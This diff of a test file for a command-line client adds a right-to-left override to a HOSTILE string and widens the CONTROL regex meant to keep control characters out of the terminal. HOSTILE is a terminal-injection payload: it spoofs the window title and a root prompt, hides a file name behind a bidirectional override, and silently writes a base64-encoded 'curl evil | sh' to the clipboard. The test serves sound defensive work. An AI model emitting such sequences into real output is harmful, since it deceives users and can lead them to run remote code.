@@ -14,9 +14,10 @@ import { writeCredentials } from './settings.js';
  */
 const SERVER = 'https://control.test';
 const ESC = '\u001b';
-const HOSTILE = `${ESC}]0;pwned\u0007${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007${ESC}[2J\rroot\u009b31m\u007f`;
+// Then a right-to-left override and an isolate, which make the rest of the line read backwards.
+const HOSTILE = `${ESC}]0;pwned\u0007${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007${ESC}[2J\rroot\u009b31m\u007f\u202egnp.exe\u2066`;
 // eslint-disable-next-line no-control-regex -- control characters are what must not reach the terminal
-const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 const json = { headers: { 'content-type': 'application/json' } };
 
 function mock(): MockAgent {
